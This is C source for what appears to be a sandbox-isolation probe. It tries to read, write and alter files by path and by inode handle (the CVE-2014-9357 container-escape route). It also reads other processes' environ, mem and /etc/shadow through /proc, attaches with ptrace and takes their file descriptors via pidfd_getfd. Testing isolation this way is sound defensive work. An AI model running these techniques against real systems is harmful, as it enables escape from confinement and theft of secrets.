/* Takes what belongs to others: files by name and by handle, and whatever the kernel tells of processes. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static char seen[65536];

static void tell(int file, const char *path) {
  ssize_t count = read(file, seen, sizeof seen);
  for (ssize_t at = 0; at < count; at++)
    if (seen[at] == 0) seen[at] = ' ';
  if (count >= 0) printf("got %s: %.*s\n", path, (int)count, seen);
}

/* Plainly, and by way of a handle that opens nothing. */
static void readPath(const char *path) {
  int file = open(path, O_RDONLY | O_NONBLOCK);
  if (file >= 0) tell(file, path), close(file);
  int handle = open(path, O_PATH);
  if (handle < 0) return;
  char by[64];
  snprintf(by, sizeof by, "/proc/self/fd/%d", handle);
  file = open(by, O_RDONLY | O_NONBLOCK);
  if (file >= 0) tell(file, by), close(file);
  close(handle);
}

static void writePath(const char *path) {
  int file = open(path, O_WRONLY | O_CREAT | O_APPEND | O_NONBLOCK, 0666);
  if (file < 0) return;
  if (write(file, "PLANTED\n", 8) == 8) printf("wrote %s\n", path);
  close(file);
}

static void changePath(const char *path) {
  char other[4200];
  snprintf(other, sizeof other, "%s.moved", path);
  if (chmod(path, 0777) == 0) printf("changed mode of %s\n", path);
  if (setxattr(path, "user.mark", "x", 1, 0) == 0) printf("changed attribute of %s\n", path);
  if (setxattr(path, "system.posix_acl_access", "\2\0\0\0\1\0\7\0\377\377\377\377\4\0\7\0\377\377\377\377\40\0\7\0\377\377\377\377", 28, 0) == 0)
    printf("changed list of %s\n", path);
  if (utimensat(AT_FDCWD, path, NULL, 0) == 0) printf("changed time of %s\n", path);
  if (rename(path, other) == 0) printf("changed name of %s\n", path), rename(other, path);
  if (link(path, other) == 0) printf("changed links of %s\n", path), unlink(other);
}

static void watchPath(int watch, const char *path) {
  if (inotify_add_watch(watch, path, IN_ALL_EVENTS) >= 0) printf("watched %s\n", path);
}

/* By the number of its inode, without any path (CVE-2014-9357's way out of a container). */
static void byHandle(const char *mountPoint, const char *inode) {
  struct { unsigned int bytes; int type; uint32_t words[4]; } handle = {8, 1, {(uint32_t)strtoul(inode, NULL, 10), 0}};
  int mount = open(mountPoint, O_RDONLY);
  int file = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
  if (file >= 0) tell(file, inode);
  else printf("handle refused: %d\n", errno);
}

static int uidOf(const char *pid) {
  char path[64];
  struct stat found;
  snprintf(path, sizeof path, "/proc/%s", pid);
  return stat(path, &found) == 0 ? (int)found.st_uid : -1;
}

static void process(const char *pid) {
  static const char *const parts[] = {"environ", "cmdline", "maps", "mem", "auxv", "stack", "syscall", "io", "numa_maps", "root/etc/shadow"};
  const char *whose = uidOf(pid) == (int)getuid() ? "own" : "other";
  printf("process %s %s\n", whose, pid);
  char path[128], where[256];
  for (size_t at = 0; at < sizeof parts / sizeof *parts; at++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, parts[at]);
    int file = open(path, O_RDONLY);
    if (file < 0) continue;
    printf("%s ", whose), tell(file, path), close(file);
  }
  for (int link = 0; link < 12; link++) {
    static const char *const links[] = {"root", "cwd", "exe"};
    if (link < 3) snprintf(path, sizeof path, "/proc/%s/%s", pid, links[link]);
    else snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, link - 3);
    ssize_t length = readlink(path, where, sizeof where - 1);
    if (length > 0) printf("%s got link %s: %.*s\n", whose, path, (int)length, where);
  }
  pid_t number = atoi(pid);
  if (number == getpid()) return;
  if (ptrace(PTRACE_SEIZE, number, 0, 0) == 0) printf("%s got attached %s\n", whose, pid), ptrace(PTRACE_DETACH, number, 0, 0);
  int held = (int)syscall(SYS_pidfd_open, number, 0);
  for (int file = 0; held >= 0 && file < 12; file++) {
    int stolen = (int)syscall(SYS_pidfd_getfd, held, file, 0);
    if (stolen >= 0) printf("%s got file %d of %s\n", whose, file, pid), close(stolen);
  }
}

static void processes(void) {
  DIR *all = opendir("/proc");
  for (struct dirent *one; all && (one = readdir(all));)
    if (one->d_name[0] >= '1' && one->d_name[0] <= '9') process(one->d_name);
}

/* What this program was given open: of whom, and whether it can be served from. */
static void inherited(void) {
  DIR *all = opendir("/proc/self/fd");
  char path[300], where[512];
  for (struct dirent *one; all && (one = readdir(all));) {
    snprintf(path, sizeof path, "/proc/self/fd/%s", one->d_name);
    ssize_t length = readlink(path, where, sizeof where - 1);
    if (length <= 0 || atoi(one->d_name) == dirfd(all)) continue;
    struct sockaddr_un name = {0};
    socklen_t size = sizeof name;
    int listens = 0;
    socklen_t word = sizeof listens;
    getsockopt(atoi(one->d_name), SOL_SOCKET, SO_ACCEPTCONN, &listens, &word);
    int named = getsockname(atoi(one->d_name), (struct sockaddr *)&name, &size) == 0;
    printf("fd %s %.*s%s %s\n", one->d_name, (int)length, where, listens ? " listens" : "", named ? name.sun_path : "");
  }
}

int main(int count, char **words) {
  const char *what = count > 1 ? words[1] : "";
  int watch = inotify_init1(IN_NONBLOCK);
  for (int at = 2; at < count; at++) {
    if (!strcmp(what, "read")) readPath(words[at]);
    if (!strcmp(what, "write")) writePath(words[at]);
    if (!strcmp(what, "change")) changePath(words[at]);
    if (!strcmp(what, "watch")) watchPath(watch, words[at]);
    if (!strcmp(what, "handle") && at > 2) byHandle(words[2], words[at]);
  }
  if (!strcmp(what, "processes")) processes();
  if (!strcmp(what, "inherited")) inherited();
  return 0;
}
